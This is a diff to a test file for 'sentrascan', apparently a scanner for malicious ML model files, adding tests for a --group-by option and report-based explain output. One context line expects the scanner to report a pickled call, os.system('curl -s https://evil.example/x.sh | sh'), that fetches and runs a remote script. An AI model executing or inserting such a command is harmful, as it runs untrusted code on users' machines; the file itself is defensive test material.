@@ -44,6 +44,13 @@ describe('scan', () => {
     expect(JSON.parse((await run('scan model.pt --format json')).out)).toEqual(SAMPLE_REPORT);
   });
 
+  it('groups findings in the reports that can, and says so where none can', async () => {
+    expect((await run('scan model.pt --group-by cwe')).out).toContain('Not mapped to CWE');
+    const { err, out } = await run('scan model.pt --group-by cwe --format json');
+    expect(err).toContain('--group-by changes nothing here: it is for html, markdown, text');
+    expect(JSON.parse(out)).toEqual(SAMPLE_REPORT);
+  });
+
   it('writes several reports at once, whole', async () => {
     const { code, out } = await run(
       'scan model.pt --format text --output r.json --output sarif=r.log --fail-on none',
@@ -184,6 +191,10 @@ describe('wrong usage ends with 64, a sentence and a hint', () => {
     ],
     ['explain nothing/like-it', "sentrascan: there is no rule 'nothing/like-it'\n"],
     ['explain v1:1111', 'sentrascan: a fingerprint needs a report or a path to look in\n'],
+    [
+      'scan . --group-by colour',
+      "sentrascan: 'colour' is nothing to group by\n--group-by takes severity, artifact, rule, category, cwe, ",
+    ],
     ['limits --format xml', "sentrascan: limits cannot be printed as 'xml'\n"],
   ])('%s', async (typed, sentence) => {
     const { code, out, err } = await run(typed);
@@ -200,6 +211,8 @@ describe('explain', () => {
     expect(out).toContain("call         os.system('curl -s https://evil.example/x.sh | sh')");
     expect(out).toContain('Excerpt\n      2: c GLOBAL');
     expect((await run('explain v1:1111 model.pt')).out).toBe(out);
+    await run('scan model.pt --format detailed --output d.json');
+    expect((await run('explain v1:1111 --report d.json')).out).toBe(out);
   });
 
   it('says when a fingerprint fits none or several', async () => {
